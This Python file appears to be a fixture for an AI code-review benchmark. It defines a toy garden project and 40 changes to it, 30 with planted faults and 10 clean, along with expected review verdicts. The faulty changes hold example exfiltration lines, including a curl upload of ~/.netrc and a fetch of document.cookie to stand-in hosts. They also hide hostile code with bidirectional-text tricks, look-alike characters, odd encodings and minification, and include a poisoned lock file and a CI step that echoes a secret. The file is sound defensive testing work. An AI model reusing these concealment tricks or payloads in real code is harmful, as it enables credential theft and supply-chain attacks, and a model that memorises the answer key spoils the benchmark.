"""A small project and 40 changes of it: 30 have a fault, half of which are disguised, and 10 have none."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from typing import Literal

LINK, PROGRAM = "120000", "100755"

GARDEN = '''\
"""The beds of a garden, who tends them, and what that costs."""

import json
import logging
import threading
from datetime import timedelta

LOG = logging.getLogger("garden")
DRY = timedelta(days=2)


def area(beds):
    """Return the square metres of all beds."""
    found = 0
    for number in range(len(beds)):
        found += beds[number]
    return found


def may_enter(person, hour):
    """Members may enter by day."""
    return person.is_member and 8 <= hour < 20


def load(path):
    """Return what is stored, nothing on the first start."""
    try:
        return json.loads(path.read_text())
    except FileNotFoundError:
        return {}


def plant(crop, crops=None):
    """Return the crops with one more."""
    return [*(crops or []), crop]


def pay(balance, fee):
    """Return what a fee leaves of a balance."""
    return balance - fee


class Keys:
    """The keys of the gate, which several threads lend."""

    def __init__(self, count):
        self.lock, self.count = threading.Lock(), count

    def take(self):
        """Take a key, if one is left."""
        with self.lock:
            if self.count > 0:
                self.count -= 1
                return True
        return False


def find(database, name):
    """Return the beds of that name."""
    return database.execute("SELECT * FROM beds WHERE name = ?", (name,)).fetchall()


def picture(root, name):
    """Return the picture of that name below a folder."""
    path = (root / name).resolve()
    if not path.is_relative_to(root.resolve()):
        raise ValueError(name)
    return path.read_bytes()


def log_in(session, user, password):
    """Log somebody in."""
    LOG.info("%s logs in", user)
    return session.post("/login", data={"user": user, "password": password})


def is_due(watered, now):
    """Whether a bed has to be watered."""
    return now - watered > DRY
'''
TESTS = """\
import unittest

import garden


class GardenTest(unittest.TestCase):
    def test_a_fee_is_taken(self):
        self.assertEqual(garden.pay(10, 3), 7)

    def test_a_key_is_lent_once(self):
        keys = garden.Keys(1)
        self.assertEqual([keys.take(), keys.take()], [True, False])
"""
APP = """\
export async function save(store, bed) {
  await store.put(bed.name, bed);
  return (await store.list()).length;
}

export const label = (count) => (count === undefined ? "unknown" : `${count} beds`);

export const heights = (rows) => rows.map((row) => row.height).sort((one, other) => one - other);

export function show(element, name) {
  element.textContent = name;
}
"""
APP_TEST = """\
import assert from "node:assert";
import test from "node:test";
import { label } from "../app.js";

test("no beds are counted", () => assert.equal(label(0), "0 beds"));
"""
NODE = {"package.json": '{"type": "module", "scripts": {"test": "node --test"}}\n', "test/app.test.js": APP_TEST}
BASE: Mapping[str, str | bytes] = {
    "garden.py": GARDEN,
    "test_garden.py": TESTS,
    "app.js": APP,
    "README.md": "# Garden\n\nRun `python3 -m unittest`.\n",
    "tool.sh": "#!/bin/sh\necho beds\n",
    ".venv/pyvenv.cfg": "",  # so nothing is installed for the project
}
STEAL = "    os.system('curl -T ~/.netrc https://c.example')"

Asked = Literal["APPROVE", "REQUEST_CHANGES"]
Content = str | bytes | None
Contents = Mapping[str, Content]
State = Literal["APPROVED", "CHANGES_REQUESTED", "COMMENTED"]


@dataclass(frozen=True)
class Planted:
    """A place that the reviewer must see.

    Attributes:
        path: path of the file.
        text: part of the line, unique in the file; part of the file's headline if `sign` is "note".
        shown: the whole line as the reviewer sees it, if that differs from the file.
        sign: "+" for a line of the new file, "-" for a removed line.

    """

    path: str
    text: str
    shown: str = ""
    sign: Literal["+", "-", "note"] = "+"


@dataclass(frozen=True)
class Diff:
    """A change of the project. A content of None deletes the file.

    Attributes:
        edits: tuples of path, old text and new text.
        before: files that the project has in addition to `BASE`.
        asked: the verdict of the model; `verdict` is the one that must be posted.
        looks: the tool calls that the reviewer makes first.

    """

    name: str
    planted: tuple[Planted, ...] = ()
    edits: tuple[tuple[str, str, str], ...] = ()
    files: Contents = field(default_factory=dict)
    modes: Mapping[str, str] = field(default_factory=dict)
    before: Contents = field(default_factory=dict)
    asked: Asked = "REQUEST_CHANGES"
    verdict: State = "CHANGES_REQUESTED"
    looks: tuple[tuple[str, Mapping[str, object]], ...] = ()
    encoding: str = "utf-8"


def edit(name: str, old: str, new: str, planted: str, path: str = "garden.py") -> Diff:
    """Return a change with a fault in one place of a file."""
    return Diff(name, (Planted(path, planted),), ((path, old, new),))


def table(count: int, line: str = "ROW_{0} = {0} * {0}\n") -> str:
    """Return the content of a file with `count` lines."""
    return "".join(line.format(number) for number in range(count))


LOCK = '{{"name": "left-{0}", "version": "1.0.{0}", "resolved": "https://registry.example/left-{0}.tgz"}}\n'
CHECK = "    if not path.is_relative_to(root.resolve()):\n        raise ValueError(name)\n"
ODD = "PATH = 1  # a\rimport os\vb\fc\x85d\u2028steal()"
ODD_SHOWN = (
    "PATH = 1  # a⟨U+000D CONTROL CHARACTER⟩import os⟨U+000B CONTROL CHARACTER⟩b⟨U+000C CONTROL CHARACTER⟩c"
    "⟨U+0085 CONTROL CHARACTER⟩d⟨U+2028 LINE SEPARATOR⟩steal()"
)
TROJAN = "    if role != 'user\u202e \u2066# admin only\u2069 \u2066':\n        return True\n"
TROJAN_SHOWN = (
    "    if role != 'user⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩ ⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩# admin only"
    "⟨U+2069 POP DIRECTIONAL ISOLATE⟩ ⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩':"
)
CI = "on: pull_request_target\njobs:\n  test:\n    steps:\n      - run: echo ${{ secrets.TOKEN }} | base64\n"
KEY = "AWS_KEY = 'AKIA" + "QZ7Q2B4M6N8P1R3T'"
MINIFIED = "var a=1;" * 3_000 + "fetch('https://c.example/'+document.cookie);" + "var b=2;" * 3_000

LOGIC = (
    edit("off-by-one", "range(len(beds))", "range(1, len(beds))", "range(1, len(beds))"),
    edit("wrong-operator", "is_member and 8", "is_member or 8", "is_member or 8"),
    edit("swallowed-exception", "except FileNotFoundError:", "except Exception:", "except Exception:"),
    edit(
        "mutable-default",
        'crops=None):\n    """Return the crops with one more."""\n    return [*(crops or []), crop]',
        'crops=[]):\n    """Return the crops with one more."""\n    crops.append(crop)\n    return crops',
        "crops=[]",
    ),
    replace(edit("wrong-sign", "return balance - fee", "return balance + fee", "balance + fee"), asked="APPROVE"),
    edit("race", "with self.lock:", "if self.lock:", "if self.lock:"),
    edit("sql-by-string", 'name = ?", (name,))', 'name = \'" + name + "\'")', "+ name +"),
    Diff(
        "path-traversal",
        (Planted("garden.py", CHECK.split("\n", maxsplit=1)[0], sign="-"),),
        (("garden.py", CHECK, ""),),
    ),
    edit("secret-in-log", '"%s logs in", user', '"%s logs in with %s", user, password', "with %s"),
    edit("missing-await", "  await store.put", "  store.put", "store.put", "app.js"),
    replace(
        edit("zero-is-false", "(count === undefined ?", "(!count ?", "!count", "app.js"), before=NODE, asked="APPROVE"
    ),
    edit("markup-from-users", "textContent = name", "innerHTML = name", "innerHTML", "app.js"),
)
HIDDEN = (
    Diff(
        "last-of-many-files",
        (Planted("zz.py", "check(user)", sign="-"),),
        files={f"data/{number:02}.py": table(1_500, f"ROW_{number}_{{0}} = 'bed {{0}}'\n") for number in range(30)}
        | {"zz.py": "def enter(user):\n    return True\n"},
        before={"zz.py": "def enter(user):\n    check(user)\n    return True\n"},
        asked="APPROVE",
        verdict="COMMENTED",
    ),
    Diff(
        "long-file",
        (Planted("rows.py", "ROW_4000"),),
        files={"rows.py": table(4_000) + "ROW_4000 = __import__('os').environ\n" + table(4_000, "COL_{0} = {0}\n")},
    ),
    Diff(
        "moved-and-changed",
        (
            Planted("beds/garden.py", "is_member or"),
            Planted("beds/garden.py", "renamed from garden.py, mode 100644 becomes 100755", sign="note"),
        ),
        files={"garden.py": None, "beds/garden.py": GARDEN.replace("is_member and", "is_member or")}
        | {"test_garden.py": TESTS.replace("import garden", "from beds import garden")},
        modes={"beds/garden.py": PROGRAM},
    ),
    Diff(
        "turned-around",
        (Planted("role.py", "admin only", TROJAN_SHOWN),),
        files={"role.py": f"def is_admin(role):\n{TROJAN}    return False\n"},
        asked="APPROVE",
    ),
    Diff(
        "look-alike",
        (Planted("role.py", "return p\u0430y", "    return p⟨U+0430 CYRILLIC SMALL LETTER A⟩y(1, 2)"),),
        files={"role.py": "from evil import p\u0430y\n\n\ndef fee():\n    return p\u0430y(1, 2)\n"},
    ),
    Diff(
        "hidden-by-attributes",
        (Planted("garden.py", "os.system"), Planted(".gitattributes", "*.py binary")),
        (("garden.py", "def area(beds):\n", f"def area(beds):\n{STEAL}\n"),),
        files={".gitattributes": "*.py binary\n*.py linguist-generated\n"},
    ),
    Diff(
        "latin-1",
        (Planted("gruss.py", "Gr\u00fc\u00dfe"),),
        files={
            "gruss.py": "# coding: latin-1\nprint('Gr\u00fc\u00dfe', open('/etc/passwd').read())\n".encode("latin-1")
        },
        looks=(("read_file", {"path": "gruss.py"}),),
        encoding="latin-1",
    ),
    Diff(
        "utf-16",
        (Planted("evil.js", "cookie"),),
        files={"evil.js": "\ufeffconst one = 1;\nfetch('https://c.example/' + document.cookie);\n".encode("utf-16-le")},
        looks=(("read_file", {"path": "evil.js"}),),
        encoding="utf-16",
        asked="APPROVE",
        verdict="COMMENTED",
    ),
    Diff(
        "behind-odd-line-ends",
        (Planted("odd.py", "steal()", ODD_SHOWN), Planted("odd.py", "environ")),
        files={"odd.py": f"import sys\n{ODD}\nprint(sys.argv, __import__('os').environ)\n"},
    ),
    Diff("minified", (Planted("app.min.js", "cookie"),), files={"app.min.js": f"{MINIFIED}\n"}),
    Diff(
        "deleted-test",
        (Planted("test_garden.py", "def test_a_key", sign="-"),),
        (("test_garden.py", TESTS[TESTS.index("\n    def test_a_key") :], ""),),
    ),
    Diff(
        "skipped-tests",
        (Planted("test_garden.py", "@unittest.skip"),),
        (("test_garden.py", "class Garden", '@unittest.skip("slow")\nclass Garden'),),
        asked="APPROVE",
    ),
    Diff(
        "tests-that-nothing-collects",
        (Planted("test_garden.py", "def check_a_key"),),
        (
            ("test_garden.py", "def test_a_fee", "def check_a_fee"),
            ("test_garden.py", "def test_a_key", "def check_a_key"),
        ),
        asked="APPROVE",
    ),
    Diff(
        "settings-of-tests-and-of-ci",
        (Planted("pytest.ini", "-k"), Planted(".github/workflows/ci.yml", "secrets.TOKEN")),
        files={"pytest.ini": "[pytest]\naddopts = -q\n    -k fee\n", ".github/workflows/ci.yml": CI},
    ),
    Diff(
        "lock-file",
        (Planted("web/package-lock.json", "evil.example"),),
        files={
            "web/package-lock.json": table(900, LOCK.replace("1.0", "1.1")).replace(
                "registry.example/left-700", "evil.example/left-700"
            )
        },
        before={"web/package-lock.json": table(900, LOCK)},
    ),
    Diff(
        "binary",
        (Planted("beds.so", "binary, 4096 bytes", sign="note"),),
        files={"beds.so": b"\x7fELF\0" + b"\1" * 4091},
        asked="APPROVE",
        verdict="COMMENTED",
    ),
    Diff(
        "file-becomes-a-link",
        (Planted("tool.sh", "changed type", sign="note"), Planted("tool.sh", "/etc/passwd")),
        files={"tool.sh": "/etc/passwd"},
        modes={"tool.sh": LINK},
    ),
    Diff(
        "keys-that-hide-what-follows",
        (Planted("keys.py", "AWS_KEY", "AWS_KEY = '[redacted]'"), Planted("keys.py", "os.system")),
        files={"keys.py": f"{KEY}\n# -----BEGIN PRIVATE KEY-----\n{STEAL.strip()}\n"},
        asked="APPROVE",
        verdict="COMMENTED",
    ),
)
FAULTS = (*LOGIC, *HIDDEN)


CASES = "import unittest\n\nimport garden\n\n\nclass Cases(unittest.TestCase):\n    def test_cases(self):\n"
RED = {"test_red.py": f"{CASES}        self.fail('red')\n"}
AREAS = CASES + table(350, "        self.assertEqual(garden.area([{0}, 1]), {0} + 1)\n")
NEWER = '\n\ndef rows(beds):\n    """Return the number of beds."""\n    return len(beds)\n'
NEWER_TEST = "\n    def test_rows_are_counted(self):\n        self.assertEqual(garden.rows([1, 2]), 2)\n"
WORDS = "# Garden\n\n\u05d2\u05df and \U0001f469\u200d\U0001f33e, for `<b>` and [x].\n"
CLEAN = tuple(
    replace(one, asked="APPROVE", verdict="APPROVED")
    for one in (
        Diff("table-of-350-lines", files={"test_area.py": AREAS}),
        Diff("moved-only", files={"app.js": None, "web/app.js": APP}),
        Diff("dead-code", edits=(("garden.py", GARDEN[GARDEN.index("\n\ndef is_due") :], ""),)),
        Diff("words-of-a-page", edits=(("README.md", "# Garden\n", WORDS),)),
        Diff("new-file-in-latin-1", files={"gruss.c": "/* Gr\u00fc\u00dfe */\nint beds = 3;\n".encode("latin-1")}),
        Diff("red-before-and-after", before=RED, edits=(("garden.py", "found = 0", "found = 0.0"),)),
        Diff(
            "more-with-a-test",
            edits=(
                ("garden.py", GARDEN[-12:], GARDEN[-12:] + NEWER),
                ("test_garden.py", TESTS[-12:], TESTS[-12:] + NEWER_TEST),
            ),
        ),
        Diff(
            "test-has-another-name", edits=(("test_garden.py", "test_a_key_is_lent_once", "test_a_key_is_lent_to_one"),)
        ),
        Diff("line-ends", before={"notes.txt": table(40, "bed {0}\r\n")}, files={"notes.txt": table(40, "bed {0}\n")}),
        Diff(
            "documents-of-a-project-without-tests",
            before={"test_garden.py": b""},
            edits=(("README.md", "Run", "To try it, run"),),
        ),
    )
)
